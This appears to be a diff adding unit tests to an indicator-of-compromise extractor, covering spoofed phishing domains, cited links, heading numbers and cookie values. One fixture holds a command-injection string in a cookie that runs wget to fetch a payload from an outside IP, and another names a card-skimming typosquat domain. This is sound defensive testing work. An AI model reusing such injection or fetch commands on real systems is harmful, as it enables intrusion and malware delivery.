@@ -223,3 +223,36 @@ describe('tables that name what their values are', () => {
     expect(extraction.suppressed.map((v) => [v.value, v.reason])).toEqual([['http://github.com/EddieIvan01/iox', 'tool_source']]);
   });
 });
+
+describe('what an article names without accusing it', () => {
+  it('the brand a phishing domain spoofs, and the victim a campaign targets, are not indicators', () => {
+    const spoof = extractIocs("The code posts card data to http://authorizen[.]net/, where the 'n' is added to spoof http://authorize[.]net/, a legitimate processor.", { html: false });
+    expect(spoof.iocs.map((ioc) => ioc.value)).toEqual(['http://authorizen.net/']);
+    expect(spoof.references.map((r) => [r.value, r.reason])).toEqual([['http://authorize.net/', 'victim']]);
+    const victim = extractIocs('We received reports of a phishing campaign targeting crates.io users.', { html: false });
+    expect(victim.iocs).toEqual([]);
+  });
+
+  it('a Markdown link, an autolink and a markup attribute are links the text cites', () => {
+    const text =
+      'The malware [report](https://research.example-lab.net/a) and the malware analysis at <https://research.example-lab.net/b>; ' +
+      'the malware <img src="https://cdn.example-lab.net/c.png"> too.';
+    const extraction = extractIocs(text, { html: false });
+    expect(extraction.iocs).toEqual([]);
+    expect(extraction.references.map((r) => r.reason)).toEqual(['link', 'link', 'link']);
+  });
+
+  it('an address in a heading is an indicator; a number that opens a heading is a section', () => {
+    const text = '### 2019-10-28 : Samples hosted at 45.89.106.108\n\n#### 3.2.10.0 USE OF WEAK HASH CWE-328\n';
+    const extraction = extractIocs(text, { html: false });
+    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['45.89.106.108']);
+    expect(extraction.suppressed.map((v) => [v.value, v.reason])).toEqual([['3.2.10.0', 'section_number']]);
+  });
+
+  it('a session id in a cookie is not a file hash; a host fetched by wget is an indicator', () => {
+    const text = 'POST /global_data/ HTTP/1.1 Cookie:CGISESSID=e6f1106605b5e8bee6114a3b5a88c5b4`cd /tmp; wget http://45.89.106.108/richard;';
+    const extraction = extractIocs(text, { html: false });
+    expect(extraction.iocs.map((ioc) => ioc.value)).toEqual(['http://45.89.106.108/richard']);
+    expect(extraction.suppressed.map((v) => v.reason)).toEqual(['not_a_file_hash:cgisessid']);
+  });
+});
